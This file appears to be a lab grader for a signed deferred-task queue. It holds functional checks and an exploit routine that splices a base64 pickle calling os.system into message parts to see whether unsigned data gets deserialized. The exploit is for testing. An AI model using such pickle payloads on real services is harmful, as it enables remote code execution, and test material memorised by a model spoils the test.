# lab: shared (the code pickles a function of the proof)
import base64
import os
from operator import concat

KEYS = {"north": bytes([1]) * 32, "south": bytes([2]) * 32}
NOW = 1_770_076_800.0


def refuses(error, function, *args):
    try:
        function(*args)
    except error:
        return True
    return False


def works(code):
    tasks = code.DeferredTasks(KEYS)
    message = tasks.pack(code.Task("north", NOW + 1, concat, ("a", "b")))
    task = tasks.unpack(message, NOW)
    assert (task.tenant, task.function(*task.args)) == ("north", "ab"), "An unpacked task should have its tenant and do its work."
    assert refuses(code.TaskError, tasks.unpack, message, NOW + 2), "A task that is too old should be refused."
    changed = code.Message(message.body[:-4] + "AAAA", message.attributes)
    assert refuses(code.TaskError, tasks.unpack, changed, NOW), "A message that was changed should be refused."
    assert refuses(code.TaskError, tasks.pack, code.Task("unknown", NOW, concat)), "A task of an unknown tenant should be refused."


def exploit(code):
    """Can write into the queue and has seen one message of it, but has no key."""
    tasks = code.DeferredTasks(KEYS)
    message = tasks.pack(code.Task("north", NOW + 1, concat, ("a", "b")))
    parts = message.body.split(".")
    if os.path.exists("owned.txt"):
        os.remove("owned.txt")
    payload = base64.urlsafe_b64encode(b"cos\nsystem\n(S'echo > owned.txt'\ntR.").decode()
    for index in range(len(parts)):
        forged = ".".join(parts[:index] + [payload] + parts[index + 1 :])
        try:
            tasks.unpack(code.Message(forged, message.attributes), NOW)
        except Exception:
            pass
    sent = "a message in the queue whose body is a pickle that calls os.system, without a valid signature"
    return {"sent": sent, "got": "the file owned.txt on the server"} if os.path.exists("owned.txt") else False
